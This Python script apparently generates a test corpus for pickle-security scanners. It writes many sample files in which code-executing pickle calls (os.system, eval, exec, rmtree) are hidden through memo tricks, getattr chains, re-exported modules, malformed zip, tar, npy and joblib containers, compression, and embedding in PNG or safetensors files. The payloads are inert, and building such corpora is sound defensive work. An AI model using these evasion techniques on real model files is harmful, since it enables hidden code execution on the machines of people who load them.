"""Writes samples that no scanner may call clean: python dangerous.py FOLDER

Each class of ways around scanners has samples with several payloads. Nothing here is loaded, by this script or by the
scanner: the payloads print a word if somebody else loads them.
"""

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

import indirect

# Module, name, argument: some on every list, some on none.
PAYLOADS = [
    ("os", "system", "echo inert"),
    ("posix", "system", "echo inert"),
    ("subprocess", "getoutput", "echo inert"),
    ("builtins", "eval", "print('inert')"),
    ("builtins", "exec", "print('inert')"),
    ("runpy", "run_path", "inert.py"),
    ("importlib", "import_module", "inert"),
    ("shutil", "rmtree", "/nonexistent/inert"),
    ("_osx_support", "_read_output", "echo inert"),
    ("_aix_support", "_read_cmd_output", "echo inert"),
    ("_pyrepl.pager", "pipe_pager", "echo inert"),
    ("imaplib", "IMAP4_stream", "echo inert"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "inert"),
    ("idlelib.run", "Executive.runcode", "inert"),
    ("pydoc", "pipepager", "echo inert"),
    ("timeit", "timeit", "print('inert')"),
    ("cProfile", "run", "print('inert')"),
    ("torch.utils.collect_env", "run", "echo inert"),
    ("numpy.testing._private.utils", "runstring", "print('inert')"),
    ("some_package.never_listed", "do", "inert"),
]

FEW = PAYLOADS[:4] + PAYLOADS[8:10] + PAYLOADS[-1:]


def main(folder):
    os.makedirs(folder, exist_ok=True)
    samples = list(all_samples())
    for name, content in samples:
        path = os.path.join(folder, name)
        assert not os.path.exists(path), name
        with open(path, "wb") as file:
            file.write(content)
    print(f"{len(samples)} samples")


def all_samples():
    for make in (plain, memoized, computed, dotted, state, extension, numbers, several, broken, nested, packed, zips, tars, npys, joblibs, names, reexports, hidden, loaders, *indirect.ALL):
        count = 0
        for suffix, content in make():
            count += 1
            yield f"{make.__name__}-{count:03}{suffix}", content


def text(value):
    content = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(content)) + content


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def call(module, name, argument):
    """A call by GLOBAL and REDUCE, without the STOP."""
    return f"c{module}\n{name}\n".encode() + text(argument) + b"\x85R"


def stack_call(module, name, argument):
    return short(module) + short(name) + b"\x93" + text(argument) + b"\x85R"


def plain():
    """Each opcode that calls or makes."""
    for module, name, argument in PAYLOADS:
        line = argument.replace("'", '"')
        yield ".pkl", call(module, name, argument) + b"."
        yield ".pkl", b"\x80\x04" + stack_call(module, name, argument) + b"."
        yield ".pkl", f"(S'{line}'\ni{module}\n{name}\n.".encode()
        yield ".pkl", f"(c{module}\n{name}\nS'{line}'\no.".encode()
        yield ".pkl", b"\x80\x02" + f"c{module}\n{name}\n".encode() + text(argument) + b"\x85\x81."
        yield ".pkl", b"\x80\x04" + short(module) + short(name) + b"\x93" + text(argument) + b"\x85}\x92."
        yield ".pkl", f"c{module}\n{name}\n.".encode()


def memoized():
    """Names and functions by way of the memo, with odd indexes."""
    for module, name, argument in FEW:
        yield ".pkl", b"\x80\x04" + text(module) + b"\x940" + text(name) + b"\x940h\x00h\x01\x93" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04" + text(module) + b"r\xff\xff\xff\x7f0" + text(name) + b"q\xc80j\xff\xff\xff\x7fh\xc8\x93" + text(argument) + b"\x85R."
        yield ".pkl", f"c{module}\n{name}\np5\n0g5\n".encode() + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04" + text("collections") + b"q\x000" + text(module) + b"q\x000h\x00" + text(name) + b"\x93" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04q5".replace(b"q5", b"") + text(name) + text(module) + b"q\x0000" + text("x") + b"0h\x00" + text(name) + b"\x93" + text(argument) + b"\x85R."
        # DUP of a module's name, which is a function's too.
        yield ".pkl", b"\x80\x04" + text(module) + b"2\x940h\x00" + text(name) + b"\x93" + text(argument) + b"\x85R."


def computed():
    """STACK_GLOBAL of what a call gives."""
    for module, name, argument in FEW:
        encoded = text(module) + text("utf-8") + b"\x86R"
        yield ".pkl", b"\x80\x04c_codecs\nencode\n" + encoded + text(name) + b"\x93" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04cbuiltins\nstr\n" + text(module) + b"\x85R" + text(name) + b"\x93" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04cbuiltins\ngetattr\n" + f"c{module}\n{name.split('.')[0]}\n".encode() + text("__call__") + b"\x86R" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text(module) + b"\x85R" + text(name) + b"\x86R" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04Pmodule-by-id\n" + text(name) + b"\x93" + text(argument) + b"\x85R."
        yield ".pkl", b"\x80\x04Q".replace(b"Q", b"") + text("id") + b"Q" + text(argument) + b"\x85R."


def dotted():
    """Names within names, at protocol 4 and by getattr."""
    outers = [("collections", "abc.sys.modules"), ("collections", "_sys.modules.__getitem__"), ("decimal", "_sys.exit"), ("numpy", "os.system"), ("logging", "os.system"), ("json.decoder", "scanner.re.enum.sys.exit"), ("datetime", "sys.exit"), ("pathlib", "os.system"), ("uuid", "os.system"), ("random", "_os.system"), ("pandas", "io.common.os.system"), ("sklearn.utils", "joblib.os.system"), ("collections", "OrderedDict.__init__.__globals__"), ("datetime", "datetime.__class__.__base__.__subclasses__")]
    for module, name in outers:
        yield ".pkl", b"\x80\x04" + stack_call(module, name, "echo inert") + b"."
        yield ".pkl", b"\x80\x04" + call(module, name, "echo inert") + b"."
        first, rest = name.split(".", 1)
        yield ".pkl", b"\x80\x02cbuiltins\ngetattr\n" + f"c{module}\n{first}\n".encode() + text(rest) + b"\x86R" + text("echo inert") + b"\x85R."


def state():
    """BUILD and items behind a call."""
    dangerous = b"cos\nsystem\n"
    unlisted = b"csome_package.never_listed\ndo\n"
    for function in (dangerous, unlisted):
        yield ".pkl", b"\x80\x02ccollections\nOrderedDict\n)R}" + text("__setstate__") + function + b"sb" + text("echo inert") + b"b."
        yield ".pkl", b"\x80\x02ctypes\nSimpleNamespace\n)R}" + text("append") + function + b"sb" + text("echo inert") + b"a."
    # With allowed names alone.
    allowed = b"cbuiltins\nlist\n"
    yield ".pkl", b"\x80\x02ccollections\nOrderedDict\n)R}" + text("__setstate__") + allowed + b"sb" + text("x") + b"b."
    yield ".pkl", b"\x80\x02ctypes\nSimpleNamespace\n)R}" + text("__setstate__") + allowed + b"sb" + text("x") + b"b."
    yield ".pkl", b"\x80\x02csklearn.pipeline\nPipeline\n)\x81N}" + text("__class__") + b"ccollections\nOrderedDict\ns\x86b."
    yield ".pkl", b"\x80\x02ccollections\nOrderedDict\n}" + text("__reduce__") + allowed + b"sb."
    yield ".pkl", b"\x80\x02ccollections\nOrderedDict\nN}" + text("x") + b"K\x01s\x86b."
    yield ".pkl", b"\x80\x02cnumpy\nadd\n}" + text("x") + b"K\x01sb."
    yield ".pkl", b"\x80\x02cos\nenviron\n" + text("PATH") + text("inert") + b"s."
    yield ".pkl", b"\x80\x02csys\nmodules\n" + text("os") + b"Ns."
    yield ".pkl", b"\x80\x02cdatetime\ndate\nC".replace(b"C", b"(") + b"K\x01K\x01tR" + b"]a."
    yield ".pkl", b"\x80\x02cnumpy.random.mtrand\n_rand\n}" + text("x") + b"K\x01sb."
    yield ".pkl", b"\x80\x02ccollections\nOrderedDict\n)R" + b")R."
    yield ".pkl", b"\x80\x02cfunctools\npartial\ncbuiltins\nlist\n\x85R" + b"(]tR."
    yield ".pkl", b"\x80\x02cbuiltins\niter\ncbuiltins\nlist\nN\x86R."
    yield ".pkl", b"\x80\x02cbuiltins\ntype\n" + text("C") + b")}\x87R."


def extension():
    for code in (b"\x82\x01", b"\x82\xf0", b"\x83\x00\x01", b"\x84\x00\x00\x01\x00"):
        yield ".pkl", b"\x80\x02" + code + b"."
        yield ".pkl", b"\x80\x02" + code + text("echo inert") + b"\x85R."
        yield ".pkl", b"\x80\x02" + code + b")\x81."


def numbers():
    """Numbers that the loader reads, and other readers refuse, before the payload."""
    for odd in (b"I0x10\n", b"I1_000\n", b"L0x10L\n", b"I010\n", b"I +5\n", b"F1_0\n", b"F 1.5\n", b"L1_0\n", b"I-0x10\n", b"Fnan\n", b"I00\n", b"I01\n", b"I0b11\n", b"L99999999999999999999999L\n", b"I" + b"9" * 5000 + b"\n"):
        for payload in FEW[:1] + FEW[-1:]:
            yield ".pkl", odd + b"0" + call(*payload) + b"."


def several():
    """In the second pickle, and by the memo of the first."""
    for module, name, argument in FEW:
        yield ".pkl", pickle.dumps([1, 2], 4) + call(module, name, argument) + b"."
        yield ".pkl", text(module) + b"q\x00" + text(name) + b"q\x01." + b"\x80\x04h\x00h\x01\x93" + text(argument) + b"\x85R."
        yield ".pkl", f"c{module}\n{name}\nq\x07.".encode() + b"h\x07" + text(argument) + b"\x85R."
        # Alone it names what is allowed; behind the first the entries are others.
        first = text(module) + b"\x940" + text(name) + b"\x94."
        second = b"\x80\x04" + text("collections") + b"\x940" + text("OrderedDict") + b"\x940h\x00h\x01\x93."
        yield ".pkl", first + second
        yield ".pkl", b"N." + first + second
        yield ".pkl", pickle.dumps("x") * 20 + call(module, name, argument) + b"."
        yield ".pkl", pickle.dumps("x") + b"\x00\x01garbage\xff\xfe" + b"\x80\x02" + call(module, name, argument) + b"."


def broken():
    """Errors behind the payload, and lies about lengths."""
    ends = [b"", b"\xff", b"0000", b"(", b"X\xff\xff\xff\x7f", b"h\x99.", b"cno newline", b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.", b"I not a number\n.", b"N" * 10]
    for end in ends:
        for payload in FEW[:1] + FEW[4:5] + FEW[-1:]:
            yield ".pkl", b"\x80\x02" + call(*payload) + end
            yield ".pkl", b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00" + stack_call(*payload) + end


def nested():
    for payload in FEW:
        for inner in (call(*payload) + b".", b"\x80\x04" + stack_call(*payload) + b".", b"\x80\x04" + stack_call(*payload)):
            for protocol in (0, 2, 3, 4):
                yield ".pkl", pickle.dumps({"inner": inner}, protocol)
            yield ".pkl", pickle.dumps(pickle.dumps([inner]))
            yield ".pkl", pickle.dumps(zlib.compress(inner))
            yield ".pkl", pickle.dumps(bytearray(gzip.compress(inner)))
        yield ".pkl", b"\x80\x04" + stack_call("pickle", "loads", "x") + b"."


def packed():
    for payload in FEW:
        plain = b"\x80\x02" + call(*payload) + b"."
        for pack in (gzip.compress, zlib.compress, bz2.compress, lzma.compress, lambda b: lzma.compress(b, lzma.FORMAT_ALONE)):
            yield ".json", pack(plain)
        yield ".pkl.gz", gzip.compress(gzip.compress(plain))
        yield ".pkl.gz", gzip.compress(b"") + gzip.compress(plain)
        yield ".pkl.gz", gzip.compress(plain)[:-4]
        yield ".pkl.z", zlib.compress(pickle.dumps(1)) + zlib.compress(plain)
        yield ".bin", zlib.compress(plain)[:-3]
        # What encoders do not write, and decoders take.
        small = zlib.compressobj(wbits=13)
        yield ".bin", small.compress(plain) + small.flush()
        yield ".lzma", lzma.compress(plain, lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "lc": 2, "dict_size": 1 << 16}])


def archive(members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in members:
            file.writestr(name, content)
    return out.getvalue()


def zips():
    import warnings

    warnings.simplefilter("ignore")
    good = pickle.dumps({"weight": [1.0, 2.0]}, 2)
    for payload in FEW:
        bad = b"\x80\x02" + call(*payload) + b"."
        for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
            plain = archive([("archive/data.pkl", bad), ("archive/version", "3\n")], method)
            yield ".pt", plain
            yield ".txt", plain
            yield ".pt", b"prefix that moves all offsets" + plain
            yield ".pt", plain + b"behind the end"
            yield ".pt", archive([("archive/data.pkl", good), ("archive/data.pkl", bad)], method)
            yield ".pt", archive([("archive/data.pkl", bad), ("archive/data.pkl", good)], method)
            yield ".pt", archive([("archive/data.pkl", good), ("archive/data/0", bad)], method)
            yield ".zip", archive([("inner.zip", archive([("x", bad)], method))], method)
            # A wrong checksum, in both headers.
            yield ".pt", patched(plain, 14, 16, b"\0\0\0\0")
            # Marked as encrypted, as something else, in the directory or in the member's header.
            yield ".pt", patched(plain, 6, 8, b"\x01\0")
            yield ".pt", patched(plain, 6, None, b"\x01\0")
            yield ".pt", patched(plain, None, 8, b"\x01\0")
            yield ".pt", patched(plain, None, 10, b"\x63\0")
            # Another name in the member's header.
            yield ".pt", patched(plain, 30, None, b"brchive/")
            # A directory that does not have the member.
            yield ".pt", hide(archive([("archive/data.pkl", bad), ("archive/version", "3\n")], method))
            # No end of the directory at all.
            yield ".pt", plain[: plain.rindex(b"PK\x05\x06")]
        yield ".npz", archive([("a.npy", npy(bad))])


def patched(content, local, listed, value):
    content = bytearray(content)
    if local is not None:
        at = content.index(b"PK\x03\x04") + local
        content[at : at + len(value)] = value
    if listed is not None:
        at = content.index(b"PK\x01\x02") + listed
        content[at : at + len(value)] = value
    return bytes(content)


def hide(content):
    """Takes the first entry out of the directory."""
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 1)
    end = content.index(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", content, end + 12)
    tail = bytearray(content[end:])
    struct.pack_into("<HHII", tail, 8, 1, 1, size - (second - first), offset)
    return content[:first] + content[second:end] + bytes(tail)


def tars():
    for payload in FEW:
        bad = b"\x80\x02" + call(*payload) + b"."
        for kind in (tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
            out = io.BytesIO()
            with tarfile.open(fileobj=out, mode="w", format=kind) as file:
                for name, content in (("readme", b"text"), ("pickle", bad)):
                    member = tarfile.TarInfo(name)
                    member.size = len(content)
                    file.addfile(member, io.BytesIO(content))
            yield ".tar", out.getvalue()
            yield ".tgz", gzip.compress(out.getvalue())
            yield ".tar", out.getvalue()[:1700]
        # Without the word ustar.
        old = bytearray(out.getvalue())
        old[257:265] = bytes(8)
        old[148:156] = b" " * 8
        old[148:156] = b"%06o\0 " % sum(old[:512])
        yield ".tar", bytes(old)


def npy(pickled, descr="|O"):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (64 - (len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def npys():
    for payload in FEW:
        bad = b"\x80\x02" + call(*payload) + b"."
        yield ".npy", npy(bad)
        yield ".npy", npy(bad, "<f8")
        yield ".npy", npy(bad).replace(b"descr", b"dexcr")
        yield ".npy", bad
        yield ".txt", npy(bad)


def wrapper(code=b"f8", count=2):
    """joblib's wrapper of an array of so many items, with its state set."""
    return (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
        + text("subclass") + b"cnumpy\nndarray\n"
        + text("shape") + b"K" + bytes([count]) + b"\x85"
        + text("order") + text("C")
        + text("dtype") + b"cnumpy\ndtype\n" + text(code.decode()) + b"K\x00K\x01\x87R(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
        + text("allow_mmap") + b"\x88ub"
    )


def joblibs():
    for payload in FEW:
        bad = call(*payload)
        # Behind the array; in the array, for loaders that do not know of it; in an array of objects.
        yield ".joblib", b"\x80\x02(" + wrapper() + bytes(16) + bad + b"l."
        yield ".joblib", b"\x80\x02(" + wrapper(b"V64", 1) + (bad + b"l.").ljust(64, b"N") + b"l."
        yield ".joblib", b"\x80\x02(" + wrapper(b"f8", 9) + (bad + b"l.").ljust(72, b"N") + b"l."
        yield ".joblib", b"\x80\x02(" + wrapper(b"O8", 1) + b"\x80\x02" + bad + b"." + b"l."
        yield ".joblib.z", zlib.compress(b"\x80\x02(" + wrapper() + bytes(16) + bad + b"l.")
        content = zlib.compress(b"\x80\x02" + bad + b".")
        yield ".joblib", b"ZF" + hex(len(content)).encode().ljust(19) + content
        yield ".joblib", b"ZF" + hex(len(content)).encode().ljust(19) + b" " + content


def names():
    """Wrong extensions."""
    for payload in FEW[:2]:
        bad = b"\x80\x02" + call(*payload) + b"."
        for suffix in (".md", ".json", ".txt", ".png", ".safetensors", ".h5", ".py", ".yaml", "", ".gitattributes", ".onnx", ".bin"):
            yield suffix, bad


def reexports():
    """Modules that are on lists of allowed ones, and have others in them."""
    for module, name in (("numpy", "os"), ("numpy.core.numeric", "sys"), ("torch", "os"), ("torch._utils", "sys"), ("collections", "_sys"), ("sklearn.utils", "warnings"), ("pandas", "io"), ("joblib.numpy_pickle", "os"), ("datetime", "sys"), ("uuid", "os"), ("torch.storage", "_load_from_bytes"), ("torch.jit", "load"), ("torch.hub", "load"), ("numpy", "load"), ("numpy.lib.utils", "safe_eval"), ("pandas", "eval"), ("pandas", "read_pickle"), ("joblib", "load"), ("sklearn.externals", "joblib"), ("functools", "reduce"), ("operator", "methodcaller"), ("types", "CodeType"), ("types", "FunctionType"), ("builtins", "__build_class__")):
        yield ".pkl", b"\x80\x04" + stack_call(module, name, "inert") + b"."
    yield ".pkl", b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n" + text("os") + text("system") + b"\x86R."
    yield ".pkl", b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n" + text("echo inert") + b"\x85NtR."


def hidden():
    """Pickles in the midst of other files."""
    for payload in FEW:
        bad = b"\x80\x02" + call(*payload) + b"."
        yield ".png", b"\x89PNG\r\n\x1a\n" + bytes(100) + bad
        yield ".safetensors", struct.pack("<Q", 16) + b'{"__metadata__":{}}'[:16] + bad
        yield ".bin", os.urandom(0) + b"\x00\x01\x02" * 50 + bad + b"\xff" * 20
        yield ".png", b"\x89PNG\r\n\x1a\n" + bytes(100) + archive([("x.pkl", bad)])


def loaders():
    """Read in one way from a file and in another from bytes; by one loader and not by the other."""
    for payload in FEW:
        bad = stack_call(*payload)
        # An instruction that crosses the end of its frame: from a file the rest of the frame is dropped.
        yield ".pkl", b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00" + b"X" + struct.pack("<I", len(bad)) + bad + b"."
        # Only pickle.py takes these, only C those.
        yield ".pkl", b"F1_0\n0" + call(*payload) + b"."
        yield ".pkl", b"N(e0" + call(*payload) + b"."
        yield ".7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + call(*payload) + b"."


if __name__ == "__main__":
    main(sys.argv[1])
